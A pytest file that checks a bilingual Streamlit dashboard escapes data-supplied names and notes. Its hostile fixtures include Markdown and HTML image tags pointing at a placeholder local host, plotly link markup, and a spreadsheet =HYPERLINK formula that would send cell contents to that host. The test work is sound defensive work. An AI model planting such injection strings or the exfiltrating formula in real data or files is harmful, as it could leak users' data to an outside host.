"""No text from data is ever rendered as markup (issue #26, point 5): a copy of the project whose indicator, category,
region, phase and source names and notes carry Markdown images and links, HTML, bold, formulas, Streamlit directives
and code, walked page by page in both languages, and written out as the Markdown briefing."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from charts.format import plain_markdown
from loaders.project import ROOT
from pages.registry import VIEWER_PAGES
from tests.conftest import MONTHLY_FIXTURES

ENTRY = str(ROOT / "dashboard.py")
HOSTILE = "![x](http://127.0.0.1:9/x.png)<img src=http://127.0.0.1:9/y.png>**粗**$x^2$:red[红]`码`"
# Each piece of HOSTILE as a renderer would take it, unless a backslash before it says "just this character".
RENDERED = [
    re.compile(p)
    for p in (r"(?<!\\)\]\(http", r"(?<!\\)<img", r"(?<!\\)\*\*粗", r"(?<!\\)\$x\^2", r"(?<!\\):red\[红", r"(?<!\\)`码")
]
ESCAPED = plain_markdown(HOSTILE)


def replace_once(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def make_hostile_folder(root: Path) -> Path:
    """A copy of the shipped project with monthly figures, where names and notes a viewer sees carry HOSTILE."""
    root.mkdir(parents=True)
    shutil.copy(ROOT / "indicators.yaml", root / "indicators.yaml")
    shutil.copytree(ROOT / "data", root / "data")
    for path in MONTHLY_FIXTURES.glob("*.csv"):
        shutil.copy(path, root / "data/monthly" / path.name)
    catalogue = root / "indicators.yaml"
    # GDP: its own cards and charts, and the 与…增长同步 of the incomes tied to it
    replace_once(catalogue, "name_zh: 地区生产总值\n", f"name_zh: '{HOSTILE}地区生产总值'\n")
    replace_once(catalogue, "name_en: Gross regional product\n", f"name_en: '{HOSTILE} Gross regional product'\n")
    replace_once(catalogue, "name_zh: 主要预期目标,", f"name_zh: '{HOSTILE}主要预期目标',")
    replace_once(catalogue, "name_zh: 守边固边兴边,", f"name_zh: '{HOSTILE}守边固边兴边',")  # a work area
    replace_once(catalogue, "name_en: Guarding and developing the border}", f"name_en: '{HOSTILE} Border'}}")
    results = root / "data/report_results.csv"
    rows = pd.read_csv(results, dtype=str, keep_default_na=False)
    rows["note"], rows["note_en"] = f"{HOSTILE}说明", f"{HOSTILE} note"
    rows.to_csv(results, index=False)
    regions = root / "data/regions.yaml"
    replace_once(regions, "division_zh: 州（市）", f"division_zh: '{HOSTILE}州（市）'")
    replace_once(regions, "name_en: Kunming,", f"name_en: '{HOSTILE} Kunming',")
    replace_once(regions, "province_en: Yunnan", f"province_en: '{HOSTILE} Yunnan'")
    sources = root / "data/sources/sources.yaml"
    replace_once(sources, "title_zh: 《云南统计年鉴-2023》", f"title_zh: '{HOSTILE}《云南统计年鉴-2023》")
    text = sources.read_text(encoding="utf-8")
    line = next(x for x in text.splitlines() if HOSTILE in x)
    sources.write_text(text.replace(line, line + "'"), encoding="utf-8")
    standards = root / "data/standards/child-rehab-2023.yaml"
    line = next(x for x in standards.read_text(encoding="utf-8").splitlines() if x.startswith("    note_zh: 人工耳蜗"))
    replace_once(standards, line, f"    note_zh: '{HOSTILE}'")
    assessment = root / "data/assessments/food-safety-2023.yaml"
    replace_once(assessment, "name_zh: 启动部署阶段", f"name_zh: '{HOSTILE}启动部署阶段'")
    return root


@pytest.fixture
def hostile(tmp_path, monkeypatch) -> Path:
    root = make_hostile_folder(tmp_path / "project")
    monkeypatch.setenv("DASHBOARD_ROOT", str(root))
    st.cache_data.clear()
    st.cache_resource.clear()
    return root


def markdown_sources(at) -> list[str]:
    """The text of every element the browser renders as Markdown: markdown and captions, titles, alerts, toasts,
    expander, tab, page-link, metric and widget labels, help texts. (Tables, code and charts show text as text.)"""
    found = []

    def walk(node):
        proto = getattr(node, "proto", None)
        fields = {f.name for f in proto.DESCRIPTOR.fields} if hasattr(proto, "DESCRIPTOR") else set()
        for field in ("body", "label", "help", "placeholder"):
            if field in fields and node.type not in ("code", "text", "json"):
                found.append(getattr(proto, field))
        label = getattr(node, "label", None)  # blocks: expanders, tabs, popovers
        if isinstance(label, str):
            found.append(label)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return [text for text in found if text]


def test_the_hostile_folder_is_a_valid_project(hostile):
    from loaders.project import load_project

    project = load_project(hostile)
    assert project.ok, [p.format() for p in project.problems[:5]]
    assert HOSTILE in project.catalogue.indicators["gdp"].name("zh")


def chart_texts(spec) -> list[str]:
    """Every text of a plotly figure's JSON (data and layout), wherever it is nested."""
    if isinstance(spec, str):
        return [spec]
    if isinstance(spec, dict):
        return [text for value in spec.values() for text in chart_texts(value)]
    if isinstance(spec, list):
        return [text for value in spec for text in chart_texts(value)]
    return []


DRAWN_ON = {"overview", "growth", "progress", "rankings", "foodsafety"}  # pages whose charts show a hostile name
SHOWN_ON = {"overview", "rankings", "tasks", "rehab", "sources"}  # pages that show a hostile name in such text


@pytest.mark.parametrize("page", VIEWER_PAGES, ids=[p.url_path for p in VIEWER_PAGES])
def test_no_name_or_note_is_rendered_as_markup_on_any_page(hostile, page):
    shown, drawn = [], []
    for lang in (None, "English"):
        at = AppTest.from_file(ENTRY, default_timeout=90)
        at.run()
        if lang:
            at.sidebar.radio(key="lang").set_value(lang).run()
        at.switch_page(page.file).run()
        assert not at.exception, [e.message for e in at.exception]
        sources = markdown_sources(at)
        rendered = [(s, p.pattern) for s in sources for p in RENDERED if p.search(s)]
        assert not rendered, (page.file, lang, rendered[:3])
        shown += [s for s in sources if ESCAPED in s]
        charted = [text for chart in at.get("plotly_chart") for text in chart_texts(json.loads(chart.proto.spec))]
        assert not [text for text in charted if "<img" in text], (page.file, lang)  # plotly's markup: <a>, <b>…
        drawn += [text for text in charted if "&lt;img src=http://127.0.0.1:9/y.png&gt;" in text.replace("<br>", "")]
    assert bool(shown) == (page.url_path in SHOWN_ON), shown  # shown, as written
    assert bool(drawn) == (page.url_path in DRAWN_ON), page.url_path  # the charts draw the names as written


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_markdown_briefing_writes_names_as_written(hostile, tmp_path, lang):
    from charts.__main__ import main as charts_cli

    out = tmp_path / "out"
    assert charts_cli(["--root", str(hostile), "--lang", lang, "briefing", "--out", str(out), "--format", "md"]) == 0
    (md,) = out.glob("*.md")
    text = md.read_text(encoding="utf-8")
    assert ESCAPED in text
    assert not [p.pattern for p in RENDERED if p.search(text)]


def test_the_review_page_shows_an_uploaded_reports_text_as_written(staff_app):
    from conftest import sign_in

    at, _ = staff_app
    sign_in(at)
    at.switch_page("pages/draft_review.py").run()
    county = (Path(__file__).parent / "fixtures/extract/county.txt").read_text(encoding="utf-8")
    county = county.replace("全县完成地区生产总值186.3亿元", f"{HOSTILE}全县完成地区生产总值186.3亿元", 1)
    at.text_input(key="draft_region").input("松溪县")
    at.number_input(key="draft_year").set_value(2024)
    at.file_uploader(key="report_text").upload("county.txt", county.encode("utf-8")).run()
    row = next(n for n, label in enumerate(at.selectbox(key="draft_row").options) if "186.3" in label)
    at.selectbox(key="draft_row").set_value(row).run()
    assert not at.exception, [e.message for e in at.exception]
    (shown,) = [m.value for m in at.markdown if "<mark>" in m.value]
    # the text as written (the drafter reads ** as nothing), and the clause's marks as the only HTML
    assert plain_markdown("![x](http://127.0.0.1:9/x.png)<img src=http://127.0.0.1:9/y.png>") in shown
    assert "<mark>" in shown and "<b>" in shown
    assert not [p.pattern for p in RENDERED if p.search(shown)]


FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点此")'


def test_every_table_a_page_hands_out_keeps_a_formula_like_note_as_text(tmp_path, monkeypatch):
    """A note that a spreadsheet would run (=HYPERLINK… sends the sheet away) is written as text, with Excel's own
    leading apostrophe, in every CSV and Excel file of every page (charts/download.safe_cells)."""
    import csv
    import io

    import openpyxl
    from streamlit.delta_generator import DeltaGenerator

    root = make_hostile_folder(tmp_path / "project")
    results = root / "data/report_results.csv"
    rows = pd.read_csv(results, dtype=str, keep_default_na=False)
    rows["note"], rows["note_en"] = FORMULA, FORMULA
    rows.to_csv(results, index=False)
    monkeypatch.setenv("DASHBOARD_ROOT", str(root))
    st.cache_data.clear()
    st.cache_resource.clear()
    handed_out = {}
    original = DeltaGenerator.download_button

    def recording(self, label, data, file_name=None, *args, **kwargs):
        handed_out[file_name] = data
        return original(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
    for page in VIEWER_PAGES:
        at = AppTest.from_file(ENTRY, default_timeout=90)
        at.run()
        at.switch_page(page.file).run()
        assert not at.exception, [e.message for e in at.exception]
    cells = {}
    for name, data in handed_out.items():
        content = data() if callable(data) else data
        if name.endswith(".csv"):
            cells[name] = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
        elif name.endswith(".xlsx"):
            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
            assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"], name  # no live formula
            cells[name] = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert len(cells) >= 10, sorted(cells)  # every chart's and table's CSV and Excel file
    live = {name: [c for c in found if c.startswith(("=", "+", "@"))] for name, found in cells.items()}
    assert not any(live.values()), {n: c[:2] for n, c in live.items() if c}
    assert any("'" + FORMULA in found for found in cells.values())  # the note itself is there, as text


def test_plain_plotly_shows_plotlys_own_markup_as_written_and_reads_back():
    from charts.format import from_plotly, plain_plotly

    hostile = '<a href="http://127.0.0.1:9/">点此</a> <b>粗</b> R&D <span style="font-size:90px">大</span>'
    escaped = plain_plotly(hostile)
    assert "<" not in escaped and ">" not in escaped and "&amp;D" in escaped
    assert from_plotly(escaped) == hostile
    assert plain_plotly("社会消费品<br>零售总额") == "社会消费品<br>零售总额"  # our own line break in a long name
